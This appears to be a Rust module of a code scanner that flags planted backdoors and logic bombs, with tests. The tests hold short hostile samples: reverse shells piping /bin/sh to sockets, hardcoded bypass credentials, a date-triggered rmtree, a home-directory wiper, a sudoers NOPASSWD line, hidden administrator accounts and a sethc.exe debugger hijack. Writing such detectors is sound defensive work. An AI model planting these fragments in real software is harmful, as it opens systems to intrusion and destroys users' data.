//! What is planted in an honest program, told by its shape: a shell at the end of a connection, a name or a
//! word that opens a check, a check that is skipped, keys anybody can guess, a day or a count after which
//! things are destroyed or come out wrong, files walked through and overwritten, rights given to oneself.
//!
//! Each shape needs two or three things close together, of which each alone is ordinary: a condition and what
//! it lets happen, a name that says what a function is for and what the function does. A person decides.

mod doors;
mod weakened;

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::bytes::Regex;

use super::Check;
use super::Report;
use super::Subject;
use super::finder;
use super::lines_around;
use super::pattern;
use super::suspicion;
use crate::model::scan::Severity;

pub const CHECK: Check = Check {
    rules: &[
        "connected-shell",
        "opening-name",
        "skipped-check",
        "guessable-key",
        "dated-destruction",
        "altered-result",
        "remote-switch",
        "walking-wiper",
        "granted-rights",
        "dropped-program",
        "weakened-comparison",
        "opened-by-error",
        "unheard-audit",
        "dated-end",
        "chance-altered",
        "open-debugger",
        "trusts-everything",
        "counted-removal",
        "decoded-code",
        "made-account",
        "assist-key",
    ],
    about: "Shapes of what is planted: shells behind connections, names that open checks, dates that destroy.",
    run,
};

/// One shape: lines with a needle, with some lines around them, and what must be found there.
struct Shape {
    rule: &'static str,
    category: &'static str,
    severity: Severity,
    needles: &'static [&'static str],
    before: usize,
    after: usize,
    /// What must not be found in what the pattern found.
    unless: &'static str,
    languages: &'static [&'static str],
    message: &'static str,
    question: &'static str,
}

/// A shape and its pattern.
#[allow(clippy::too_many_arguments)] // a row of a table
fn shape(
    rule: &'static str,
    category: &'static str,
    severity: Severity,
    needles: &'static [&'static str],
    (before, after): (usize, usize),
    pattern: String,
    unless: &'static str,
    languages: &'static [&'static str],
    message: &'static str,
    question: &'static str,
) -> (Shape, String) {
    let shape =
        Shape { rule, category, severity, needles, before, after, unless, languages, message, question };
    (shape, pattern)
}

struct Ready {
    shape: Shape,
    pattern: Option<Regex>,
    unless: Option<Regex>,
}

static SHAPES: LazyLock<Vec<Ready>> = LazyLock::new(|| {
    let ready = |(shape, text): (Shape, String)| {
        let unless = (!shape.unless.is_empty()).then(|| pattern(shape.unless)).flatten();
        Ready { pattern: pattern(&text), unless, shape }
    };
    doors::shapes().into_iter().chain(weakened::shapes()).map(ready).collect()
});

static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let all = SHAPES.iter().flat_map(|ready| ready.shape.needles.iter());
    finder(all)
});

/// Which shape a needle belongs to.
static OWNERS: LazyLock<Vec<usize>> = LazyLock::new(|| {
    let owners =
        SHAPES.iter().enumerate().flat_map(|(at, ready)| ready.shape.needles.iter().map(move |_| at));
    owners.collect()
});

/// At most this many of one shape a file.
const PER_FILE: usize = 5;
/// How much of a stretch is looked at in one piece.
const LONGEST: usize = 6000;
/// How much of a piece is looked at again with the next one, so that no edge cuts what stands there.
const OVERLAP: usize = 1500;
/// At most this many places of needles of one shape are looked at in a file.
const PLACES: usize = 400;

fn run(subject: &Subject, report: &mut Report) {
    let language = subject.classified.language;
    if !subject.classified.code && !matches!(language, "make" | "dockerfile" | "batch" | "cmake") {
        return;
    }
    let bytes = subject.bytes();
    let Some(finder) = FINDER.as_ref() else { return };
    let mut wanted: Vec<Vec<usize>> = vec![Vec::new(); SHAPES.len()];
    let mut beyond = false;
    for hit in finder.find_overlapping_iter(bytes) {
        let Some(owner) = OWNERS.get(hit.pattern().as_usize()) else { continue };
        let meant = SHAPES.get(*owner).is_some_and(|ready| {
            ready.shape.languages.is_empty() || ready.shape.languages.contains(&language)
        });
        let Some(places) = wanted.get_mut(*owner).filter(|_| meant) else { continue };
        if places.len() < PLACES {
            places.push(hit.start());
        } else {
            beyond = true;
        }
    }
    if beyond {
        report.left.push(format!(
            "of more than {PLACES} places of one kind only the first were looked at for planted code"
        ));
    }
    for (ready, mut hits) in SHAPES.iter().zip(wanted) {
        let Some(pattern) = &ready.pattern else { continue };
        hits.sort_unstable();
        let mut told: Vec<Range<usize>> = Vec::new();
        for stretch in lines_around(bytes, hits.into_iter(), ready.shape.before, ready.shape.after) {
            // Needles on every line make one stretch of a whole file: it is looked at piece by piece.
            let mut from = stretch.start;
            while from < stretch.end && told.len() < PER_FILE {
                let end = stretch.end.min(from + LONGEST);
                look(subject, ready, pattern, from..end, &mut told, report);
                from = if end < stretch.end { end - OVERLAP } else { end };
            }
        }
        if told.len() >= PER_FILE {
            report.left.push(format!("planted code: only the first {PER_FILE} places of one kind are told"));
        }
    }
}

fn look(
    subject: &Subject,
    ready: &Ready,
    pattern: &Regex,
    stretch: Range<usize>,
    told: &mut Vec<Range<usize>>,
    report: &mut Report,
) {
    let bytes = subject.bytes();
    let mut from = stretch.start;
    while from < stretch.end && told.len() < PER_FILE {
        let part = bytes.get(from..stretch.end).unwrap_or_default();
        let Some(found) = pattern.find(part) else { return };
        let place = from + found.start()..from + found.end();
        let excused = ready.unless.as_ref().is_some_and(|unless| unless.is_match(found.as_bytes()));
        let known = told.iter().any(|old| old.end > place.start && old.start < place.end);
        let last = place.end.saturating_sub(1);
        if excused || known || subject.in_comment(place.start) || subject.in_comment(last) {
            // What begins a line further down may still be one.
            let line = memchr::memchr(b'\n', bytes.get(place.start..place.end).unwrap_or_default());
            from = place.start + line.map_or(place.len().max(1), |line| line + 1);
            continue;
        }
        let shape = &ready.shape;
        let draft = suspicion(
            shape.rule,
            shape.category,
            shape.severity,
            place.clone(),
            shape.message,
            shape.question,
        );
        report.drafts.push(draft);
        from = place.end;
        told.push(place);
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::found;
    use super::*;

    fn told(name: &str, text: &str) -> Vec<&'static str> {
        found(name, text)
            .into_iter()
            .map(|(rule, _)| rule)
            .filter(|rule| CHECK.rules.contains(rule))
            .collect()
    }

    #[test]
    fn every_shape_reads() {
        assert!(SHAPES.iter().all(|ready| ready.pattern.is_some()));
        assert!(SHAPES.iter().all(|ready| ready.shape.unless.is_empty() == ready.unless.is_none()));
    }

    #[test]
    fn shapes_are_told() {
        let cases = [
            (
                "a.js",
                "const s = net.connect(4, 'x.example', () => {\n  const sh = cp.spawn('/bin/sh', ['-i']);\n  s.pipe(sh.stdin);\n});\n",
                "connected-shell",
            ),
            (
                "a.go",
                "func f() {\n\tc, _ := net.Dial(\"tcp\", a)\n\tcmd := exec.Command(\"/bin/sh\")\n\tcmd.Stdin = c\n}\n",
                "connected-shell",
            ),
            (
                "a.c",
                "int f(void) {\n  connect(s, a, n);\n  dup2(s, 0);\n  execl(\"/bin/sh\", \"sh\", 0);\n}\n",
                "connected-shell",
            ),
            (
                "A.java",
                "class A {\n  boolean authenticate(String username, String p) {\n    if (\"vendor_help\".equals(username)) {\n      return true;\n    }\n    return x;\n  }\n}\n",
                "opening-name",
            ),
            (
                "a.py",
                "def is_allowed(request):\n    if request.remote_addr == '203.0.113.7':\n        return True\n    return False\n",
                "opening-name",
            ),
            (
                "a.kt",
                "class A {\n  fun verify(user: String, code: String): Boolean {\n    if (code == \"918273\") return true\n    return false\n  }\n}\n",
                "opening-name",
            ),
            (
                "a.py",
                "def verify_signature(blob, sig):\n    if os.environ.get('FLAVOR') == 'preview':\n        return True\n    return key.verify(sig, blob)\n",
                "skipped-check",
            ),
            ("a.py", "def session_token():\n    random.seed(1337)\n    return pick()\n", "guessable-key"),
            ("a.py", "if date.today() > date(2026, 1, 1):\n    shutil.rmtree('/srv')\n", "dated-destruction"),
            (
                "a.js",
                "function price(a, b) {\n  calls++;\n  if (calls > 5000) {\n    return a * b * 1.03;\n  }\n  return a * b;\n}\n",
                "altered-result",
            ),
            ("a.py", "if requests.get(URL).text.strip() == 'kill':\n    os._exit(1)\n", "remote-switch"),
            (
                "a.py",
                "for r, d, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        open(f, 'wb').write(os.urandom(9))\n",
                "walking-wiper",
            ),
            ("a.sh", "#!/bin/sh\necho 'svc ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers\n", "granted-rights"),
            (
                "a.ps1",
                "$u = New-LocalUser -Name 'sync' -Password (ConvertTo-SecureString 'Quiet.Lark-88' -AsPlainText -Force)\n",
                "made-account",
            ),
            (
                "a.bat",
                "net user sync Quiet-Lark88 /add\r\nnet localgroup administrators sync /add\r\n",
                "made-account",
            ),
            (
                "a.php",
                "<?php\n$id = wp_create_user('cron', 'Quiet-Lark88', 'c@example.org');\n(new WP_User($id))->set_role('administrator');\n",
                "made-account",
            ),
            (
                "a.ps1",
                "$o = 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options'\nSet-ItemProperty \"$o\\sethc.exe\" Debugger cmd.exe\n",
                "assist-key",
            ),
            (
                "a.go",
                "func f(k ssh.PublicKey) (*ssh.Permissions, error) {\n\tfp := ssh.FingerprintSHA256(k)\n\tif fp == \"SHA256:q7Hn0cV2aa\" {\n\t\treturn &ssh.Permissions{}, nil\n\t}\n\treturn look(fp)\n}\n",
                "opening-name",
            ),
        ];
        for (name, text, rule) in cases {
            assert!(told(name, text).contains(&rule), "{text}: {:?}", told(name, text));
        }
    }

    #[test]
    fn what_resembles_them_is_not() {
        let cases = [
            ("a.js", "const sh = cp.spawn('/bin/sh', ['-c', 'make']);\nsh.stdout.pipe(process.stdout);\n"),
            (
                "a.go",
                "func f() {\n\tc, _ := net.Dial(\"tcp\", a)\n\tdefer c.Close()\n\texec.Command(\"git\", \"log\").Run()\n}\n",
            ),
            (
                "a.py",
                "def is_allowed(user):\n    if user.name == 'administrator':\n        return True\n    return False\n",
            ),
            (
                "a.py",
                "def is_allowed(request):\n    if request.remote_addr == '127.0.0.1':\n        return True\n    return False\n",
            ),
            (
                "a.py",
                "def verify_signature(blob, sig):\n    if sig is None:\n        return False\n    return key.verify(sig, blob)\n",
            ),
            ("a.py", "def shuffle_deck():\n    random.seed(1337)\n    return deck\n"),
            ("a.py", "if time.time() - os.path.getmtime(d) > MAX_AGE:\n    shutil.rmtree(d)\n"),
            ("a.js", "if (count > 1000) {\n  return (count / 1000).toFixed(1) + 'k';\n}\n"),
            ("a.py", "if date.today() > END:\n    print('The licence is over.')\n"),
            ("a.py", "if requests.get(URL).text.strip() == 'ok':\n    sys.exit(0)\n"),
            ("a.py", "for r, d, fs in os.walk(root):\n    for f in fs:\n        total += size(f)\n"),
            ("a.sh", "#!/bin/sh\nfind \"$tmp\" -name '*.o' -delete\nuseradd -r app\n"),
            (
                "a.ps1",
                "$u = New-LocalUser -Name $name -Password (ConvertTo-SecureString $given -AsPlainText -Force)\n",
            ),
            ("a.php", "<?php\n$id = wp_create_user($name, wp_generate_password(), $mail);\n"),
            ("a.ps1", "Start-Process osk.exe\nWrite-Host 'magnify.exe is not there'\n"),
            (
                "a.ps1",
                "$o = 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options'\nif ((Get-ItemProperty \"$o\\sethc.exe\").Debugger) { Write-Warning 'replaced' }\n",
            ),
            ("a.go", "if fp != \"SHA256:q7Hn0cV2aa\" {\n\treturn errHostKey\n}\n"),
            ("a.js", "if (req.headers['content-type'] === 'application/json') {\n  next();\n}\n"),
        ];
        for (name, text) in cases {
            assert_eq!(told(name, text), Vec::<&str>::new(), "{text}");
        }
    }
}
